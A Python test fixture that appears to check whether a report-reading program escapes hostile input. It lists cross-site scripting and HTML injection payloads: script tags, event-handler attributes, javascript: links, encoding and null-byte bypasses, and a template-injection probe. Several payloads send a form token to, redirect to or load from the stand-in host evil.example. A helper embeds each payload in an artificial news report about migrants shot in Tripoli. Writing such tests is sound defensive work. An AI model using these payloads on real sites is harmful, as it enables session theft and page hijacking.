"""Words that try to become part of a page: in the text, title, publisher and address of a hostile report."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">press</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "</p></div></main><form action=//evil.example><input name=token>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "{{ 7*7 }}{% for x in () %}{{ config }}{% endfor %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "‮<script>alert(1)</script>‬",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u0000<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
]


def make_report(words: str) -> str:
    """A report that the program reads claims from, with `words` where names, places and quotations stand."""
    return (
        f"TRIPOLI, October 9, 2021. Guards shot dead at least six migrants at the Al-Mabani detention centre"
        f" in Tripoli on Friday, said {words}.\n\n"
        f'The interior minister, Khaled Mazen, said: "{words} only one migrant was killed."\n\n'
        f"{words} told reporters that 24 others were wounded. {words}"
    )
